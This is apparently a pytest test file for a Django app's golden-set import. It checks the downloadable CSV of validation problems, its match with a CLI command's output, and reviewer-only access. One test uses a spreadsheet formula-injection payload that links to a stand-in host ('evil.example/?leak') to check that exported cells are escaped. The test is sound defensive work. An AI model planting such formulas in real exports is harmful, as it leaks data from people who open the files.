"""The golden import page's CSV of every problem: the report page lists the first 1,000 and offers the
rest as the CSV `assay validate --problems-csv` writes, for the same file sent again; nothing is imported
and nothing of the upload is kept. The set's reviewers and admins only, like the import itself."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from assay.cli import main
from labeling import services as labeling_services
from labeling.models import FrozenLabel, GoldenSet, Query
from tests.support.import_files import doc, golden_file, golden_query, jsonl

pytestmark = pytest.mark.django_db

# 1,500 judgments off the scale (a problem each) and one query whose document the set does not hold.
MANY = json.dumps(
    {
        "version": "v1",
        "queries": [
            {"id": f"q{i}", "text": "t", "judgments": [{"doc_id": "d1", "grade": 9}]} for i in range(1500)
        ],
    }
).encode()


def _client(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _post(client: Client, golden_set: GoldenSet, name: str, data: bytes, url_name: str = "golden_import"):
    url = reverse(f"golden_io:{url_name}", args=[golden_set.slug])
    return client.post(url, {"file": SimpleUploadedFile(name, data)})


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode())))


def test_the_report_page_offers_every_problem_and_the_csv_is_the_commands(
    golden_set: GoldenSet, rita: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    client = _client(rita)
    page = _post(client, golden_set, "big.json", MANY)
    assert page.status_code == 400
    body = page.content.decode()
    assert "... and 500 more (1,500 problems in all)" in body
    assert 'id="problems-csv"' in body and "Download all 1500 problems (CSV)" in body
    assert reverse("golden_io:golden_import_problems", args=[golden_set.slug]) in body

    response = _post(client, golden_set, "big.json", MANY, "golden_import_problems")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="big-problems.csv"'
    rows = _rows(response.content)
    assert rows[0] == ["where", "message", "code", "query_id"] and len(rows) == 1501
    # The same rows, to the byte, as the command writes for the same file.
    (tmp_path / "big.json").write_bytes(MANY)
    written = tmp_path / "all.csv"
    assert main(["validate", "--golden", str(tmp_path / "big.json"), "--problems-csv", str(written)]) == 2
    capsys.readouterr()
    assert response.content == written.read_bytes()
    assert not Query.objects.exists()


def test_problems_found_against_the_set_have_their_code_and_query(golden_set: GoldenSet, rita: User) -> None:
    labeling_services.documents_import(golden_set=golden_set, data=jsonl(doc("d1")), source="docs")
    data = golden_file(golden_query("q-1", ("d1", 2)), golden_query("q-2", ("d9", 1), locale="xx-XX"))
    response = _post(_client(rita), golden_set, "golden.json", data, "golden_import_problems")
    assert response.status_code == 200
    assert _rows(response.content)[1:] == [
        [
            "queries[1].locale",
            "query q-2: locale xx-XX is outside the golden set's scope (en-US, de-DE)",
            "locale_out_of_scope",
            "q-2",
        ],
        [
            "queries[1].judgments[0].doc_id",
            f"query q-2: d9 is not a document of golden set {golden_set.slug} (import its documents first)",
            "unknown_document",
            "q-2",
        ],
    ]
    assert not Query.objects.exists() and not FrozenLabel.objects.exists()


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    golden_set: GoldenSet, rita: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak","open")'
    labeling_services.documents_import(golden_set=golden_set, data=jsonl(doc("d1")), source="docs")
    data = golden_file(golden_query(formula, ("d1", 9)), golden_query("-0.12", ("d1", 9)))  # off the scale
    response = _post(_client(rita), golden_set, "golden.json", data, "golden_import_problems")
    assert response.status_code == 200
    query_ids = [row[3] for row in _rows(response.content)[1:]]
    # Before, the id was written as it is: a live formula (a link that leaks, or a command) when opened.
    assert sorted(query_ids) == ["'" + formula, "-0.12"]  # a number stays a number
    assert not any(cell.startswith(("=", "+", "@")) for row in _rows(response.content) for cell in row)
    # The command writes the same escaped CSV.
    (tmp_path / "golden.json").write_bytes(data)
    written = tmp_path / "problems.csv"
    main(["validate", "--golden", str(tmp_path / "golden.json"), "--problems-csv", str(written)])
    capsys.readouterr()
    assert sorted(row[3] for row in _rows(written.read_bytes())[1:]) == ["'" + formula, "-0.12"]


def test_a_file_without_problems_is_a_csv_of_the_header_only_and_imports_nothing(
    golden_set: GoldenSet, rita: User
) -> None:
    labeling_services.documents_import(golden_set=golden_set, data=jsonl(doc("d1")), source="docs")
    data = golden_file(golden_query("q-1", ("d1", 2)))
    response = _post(_client(rita), golden_set, "golden.json", data, "golden_import_problems")
    assert response.status_code == 200
    assert _rows(response.content) == [["where", "message", "code", "query_id"]]
    assert not Query.objects.exists()


def test_only_the_sets_reviewers_reach_it(
    golden_set: GoldenSet, alice: User, charlie: User, rita: User
) -> None:
    for user in (alice, charlie):  # a rater of the set, an outsider: as if there were no such set
        assert _post(_client(user), golden_set, "g.json", MANY, "golden_import_problems").status_code == 404
    stranger = _post(Client(), golden_set, "g.json", MANY, "golden_import_problems")
    assert stranger.status_code == 302 and stranger["Location"].startswith(reverse("login"))
    url = reverse("golden_io:golden_import_problems", args=[golden_set.slug])
    assert _client(rita).get(url).status_code == 405


def test_without_a_file_it_shows_the_import_page_with_the_error(golden_set: GoldenSet, rita: User) -> None:
    url = reverse("golden_io:golden_import_problems", args=[golden_set.slug])
    response = _client(rita).post(url, {})
    assert response.status_code == 400 and "This field is required." in response.content.decode()
